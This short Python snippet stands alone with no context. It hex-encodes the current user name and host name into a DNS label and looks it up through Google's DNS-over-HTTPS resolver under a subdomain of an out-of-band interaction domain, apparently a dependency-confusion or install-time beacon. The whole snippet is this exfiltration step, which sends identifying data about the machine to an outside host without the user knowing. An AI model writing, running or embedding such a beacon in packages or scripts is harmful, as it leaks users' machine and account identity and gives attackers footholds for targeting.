import os, getpass, socket, requests, binascii
label = binascii.hexlify(f"{getpass.getuser()}@{socket.gethostname()}".encode()).decode()
requests.get("https://dns.google/resolve", params={"name": f"{label}.t.example-oast.net", "type": "A"}, timeout=3)
